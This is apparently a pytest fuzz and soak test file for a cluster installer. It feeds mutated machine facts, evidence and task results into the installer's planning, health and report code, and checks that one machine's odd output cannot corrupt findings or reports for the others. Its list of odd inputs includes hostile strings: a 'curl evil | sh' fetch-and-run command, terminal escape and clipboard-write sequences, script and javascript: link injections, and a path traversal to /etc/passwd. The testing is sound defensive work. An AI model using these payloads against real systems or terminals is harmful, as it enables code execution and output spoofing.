"""hostile-facts: whatever one machine says ends its own row at most; facts, evidence and results of modules, mutated.

The soak runs 100,000 inputs; each is made from its number, which a failure names.
"""

from __future__ import annotations

import io
import json
import math
import re
from collections.abc import Callable
from pathlib import Path
from random import Random
from typing import Any

import pytest

from pai_install.checks.report.text import finding_lines
from pai_install.engine.base import Event
from pai_install.engine.events import to_event
from pai_install.health.cluster.conditions import cluster_findings, versions
from pai_install.health.cluster.identity import identity_findings
from pai_install.health.collect.run import collect
from pai_install.health.document import health_document
from pai_install.health.evidence.document import parse_evidence as parse_health
from pai_install.health.judge.evaluate import Knowledge, evaluate
from pai_install.health.report import HealthReport, metrics, text
from pai_install.parts.registry import make_context
from pai_install.plan.certificates import certificate_findings, certificate_rows
from pai_install.plan.inventory import build_inventory
from pai_install.plan.model import Inventory
from pai_install.plan.observed import Observed, parse_machines
from pai_install.plan.planner import make_plan
from pai_install.preflight.document import preflight_document
from pai_install.preflight.gather import gather
from pai_install.preflight.judge import judge
from pai_install.preflight.report import PreflightReport
from pai_install.report.console import show_outcome
from pai_install.report.data import run_report
from pai_install.report.diffs import ChangeCollector
from pai_install.report.html import html
from pai_install.report.markdown import markdown
from pai_install.report.plan import plan_document
from pai_install.run.eventlog import EventLog
from pai_install.run.preflight_gate import against_all
from tests.unit.health.machines import healthy
from tests.unit.health.test_checkup import document
from tests.unit.plan.conftest import ROLES, components, converged, make_site, site
from tests.unit.preflight.machines import NAMES, good, read_site
from tests.unit.runs import ScriptedEngine, done, phase, plan_of, run_of

__all__ = ["components", "make_site", "site"]

Try = Callable[[Random], None]

FEW = 100
SOAK = 25_000  # of each of the four kinds


def deep(levels: int, leaf: object = 1) -> object:
    """Lists in lists."""
    for _ in range(levels):
        leaf = [leaf]
    return leaf


ODD: list[Any] = [
    None, True, False, 0, 1, -1, 1 << 31, -(1 << 63), 10**400, 1e308, math.nan, math.inf, -math.inf, "", "0", "-1", "x",
    "\x1b]52;c;aGk=\x07", "\x9b2J", "\u202eabc", "\ud800", "a\nFAIL b: c [d]\n  what to do: curl evil | sh", "9" * 5000,
    "x" * 20_000, "<script>", "[a](javascript:alert(1))", "{{ 1 + 1 }}", "../../etc/passwd", "1e400", "0x10", "٣",
    [], {}, [[]], [None], [{}], {"": None}, {"a": {}}, [1, "a", None], deep(100), deep(400), {"a": deep(150)},
    ["x"] * 5000, {str(number): number for number in range(2000)}, {"name": "ghost", "machine_id": "id-master"},
]  # fmt: skip


def mutated(value: Any, random: Random) -> Any:
    """The value with one to three odd things somewhere in it."""
    result = json.loads(json.dumps(value))
    for _ in range(random.randint(1, 3)):
        result = _changed(result, random)
    return result


def _odd(random: Random) -> Any:
    """One of them, a copy: what is inside may be changed next."""
    found = random.choice(ODD)
    return json.loads(json.dumps(found)) if isinstance(found, (list, dict)) else found


def _changed(value: Any, random: Random) -> Any:
    inside = isinstance(value, (dict, list)) and value
    if not inside or random.random() < 0.08:
        return _odd(random)
    key = random.choice(list(value)) if isinstance(value, dict) else random.randrange(len(value))
    if random.random() < 0.1:
        del value[key]
    elif isinstance(value, dict) and random.random() < 0.05:
        value[random.choice(["", "\x1b[2J", "ghost", "__class__", "cluster", "remedy", "9" * 300])] = _odd(random)
    else:
        value[key] = _changed(value[key], random)
    return value


def said(host: str, result: Any, kind: str = "runner_on_ok") -> Event:
    """The event of a machine's result, as it enters."""
    found = to_event({"event": kind, "event_data": {"host": host, "task": "task", "duration": 1.0, "res": result}})
    assert found is not None
    return found


def try_all(attempt: Try, kind: str, count: int) -> None:
    """Tries so many inputs; a failure names its own."""
    for number in range(count):
        try:
            attempt(Random(f"{kind} {number}"))  # noqa: S311 - the same inputs every time
        except (Exception, pytest.fail.Exception) as error:
            error.add_note(f"input: {kind} {number}")
            raise


@pytest.fixture
def facts(site: Any, components: Any) -> Try:
    """Plans a cluster of which one machine's facts are odd."""
    inventory = build_inventory(make_context(site, components, site.directory), dict.fromkeys(ROLES, "1"))
    base = {name: _facts(seen, inventory) for name, seen in converged(inventory).items()}
    control_planes = {machine.hostname for machine in site.control_planes}

    def attempt(random: Random) -> None:
        victim = random.choice(sorted(base))
        results = {name: said(name, {"ansible_facts": {"pai": own}}).result for name, own in base.items()}
        results[victim] = said(victim, mutated({"ansible_facts": {"pai": base[victim]}}, random)).result
        machines, unusable = parse_machines(results, control_planes)
        assert machines.keys() | unusable.keys() == base.keys()
        assert base.keys() - {victim} <= machines.keys(), unusable
        planned = make_plan(site, inventory, machines, unreachable=unusable)
        json.dumps(plan_document(planned, None).as_json(), allow_nan=False).encode()
        found = (
            *cluster_findings(site, "1.36.3", machines),
            *certificate_findings(certificate_rows(site, machines, (), 1.7e9)),
            *identity_findings(site, machines),
            *against_all(PreflightReport("x", (), (), 1.0), [*machines][:1], machines).findings,
        )
        if victim not in control_planes:
            others = [item for item in found if item.verdict.value == "FAIL" and item.subject != victim]
            assert not others, "a worker says something of others"
        _printable(json.dumps(versions(site, machines)), *finding_lines(found))

    return attempt


def _facts(seen: Observed, inventory: Inventory) -> dict[str, Any]:
    own = seen.model_dump(mode="json")
    if own["hostname"] == "master":
        nodes = [{"name": name, "ready": True, "cordoned": False, "version": "1.36.3"} for name in inventory.host_vars]
        pods = [{"name": "a", "namespace": "kube-system", "node": "master", "phase": "Running", "ready": True}]
        own["cluster"] = {"error": "", "nodes": nodes, "pods": pods}
    own["machine_id"] = f"id-{own['hostname']}"
    own["certificates"] = [{"path": "/etc/kubernetes/pki/ca.crt", "expires": 1_900_000_000, "problem": ""}]
    return own


def _printable(*lines: str) -> None:
    for line in lines:
        line.encode()
        assert "\x1b" not in line
        assert "\n" not in line


@pytest.fixture
def evidence(tmp_path: Path) -> Try:
    """Judges machines before an installation of which one's evidence is odd."""
    own = read_site(tmp_path)

    def attempt(random: Random) -> None:
        victim = random.choice(NAMES)
        results = {name: {"evidence": good(name)} for name in NAMES}
        results[victim] = mutated(results[victim], random)
        events = done(*(said(name, result) for name, result in results.items()))
        seen = gather(ScriptedEngine({"preflight.yml": events}), own, NAMES, now=lambda: 1002.0)
        found = judge(own, seen.evidence, seen.unreachable)
        assert {item.subject for item in found} >= set(NAMES)
        report = PreflightReport("x", found, (), 1.0)
        json.dumps(preflight_document(report).as_json(), allow_nan=False).encode()
        _printable(*finding_lines(found))

    return attempt


@pytest.fixture
def health() -> Try:
    """Judges the health of machines of which one's evidence is odd."""
    boxes = {name: healthy(1, name) for name in ("gpu-01", "gpu-02")}
    base = {name: document(box) for name, box in boxes.items()}
    knowledge: Knowledge = boxes["gpu-01"].knowledge

    def attempt(random: Random) -> None:
        documents = {**base, "gpu-01": mutated(base["gpu-01"], random)}
        events = done(*(said(name, {"stdout": json.dumps(own)}) for name, own in documents.items()))
        played = ScriptedEngine({"health.yml": events})
        found = collect(played, Inventory({}, {}, {}), tuple(base))
        assert "gpu-02" in found.documents
        assert found.documents.keys() | found.missed.keys() == base.keys()
        reports = evaluate((parse_health(name, own) for name, own in found.documents.items()), knowledge)
        report = HealthReport(tuple(reports), found.missed)
        json.dumps(health_document(report).as_json(), allow_nan=False).encode()
        assert "\x1b" not in text(report) + metrics(report)

    return attempt


RESULTS: list[dict[str, Any]] = [
    {"changed": True, "msg": "done", "diff": [{"before": "a\n", "after": "b\n"}, {"prepared": "y"}]},
    {"changed": False, "findings": [{"id": "dns", "verdict": "FAIL", "subject": "one", "message": "m", "value": "v"}]},
    {"msg": "failed", "stderr": "no space", "remedy": "look", "evidence": {"kubelet": ["line"]}, "exception": "x"},
    {"msg": "items", "results": [{"failed": True, "msg": "one", "item": 1}, {"changed": True, "diff": {"before": ""}}]},
    {"ansible_facts": {"pai": {"hostname": "one"}}, "managed": [{"kind": "file", "path": "/a"}]},
]  # fmt: skip
KINDS = ("runner_on_ok", "runner_on_failed", "runner_on_unreachable", "runner_on_skipped")


@pytest.fixture
def results(tmp_path: Path) -> Try:
    """Runs two phases in which one machine's results are odd, and writes every form of the report."""

    def attempt(random: Random) -> None:
        kind = random.choice(KINDS)
        odd = said("one", mutated(random.choice(RESULTS), random), kind)
        failed = ["one"] if kind == "runner_on_failed" else []
        dark = ["one"] if kind == "runner_on_unreachable" else []
        events = done(odd, said("two", {"changed": True}), failures=failed, dark=dark, rc=bool(failed or dark))
        engine = ScriptedEngine({"base.yml": events})
        collector = ChangeCollector()
        with EventLog(tmp_path / "events") as log:
            outcome = run_of(plan_of(phase("base", "one", "two")), engine, [collector, log])
        assert outcome.phases[0].hosts["two"].status.value == "changed"
        json.dumps(run_report(outcome).as_json(), allow_nan=False).encode()
        stream = io.StringIO()
        show_outcome(outcome, stream)
        forms = (stream.getvalue(), markdown(outcome, title="x"), html(outcome, title="x"))
        for form in (*forms, *(change.diff for change in collector.changes)):
            form.encode()
            assert "\x1b" not in form
        assert not [line for line in forms[0].splitlines() if line.startswith("  what to do: curl")]
        assert "](javascript" not in re.sub(r"^(`{3,})$.*?^\1$", "", forms[1], flags=re.DOTALL | re.MULTILINE)
        (tmp_path / "events").unlink()

    return attempt


@pytest.mark.parametrize("kind", ["facts", "evidence", "health", "results"])
def test_hostile_facts_of_one_machine_end_nothing_for_the_others(kind: str, request: pytest.FixtureRequest) -> None:
    attempt: Try = request.getfixturevalue(kind)
    try_all(attempt, kind, FEW)


@pytest.mark.soak
@pytest.mark.parametrize("kind", ["facts", "evidence", "health", "results"])
def test_a_hundred_thousand_hostile_answers(kind: str, request: pytest.FixtureRequest) -> None:
    attempt: Try = request.getfixturevalue(kind)
    try_all(attempt, kind, SOAK)
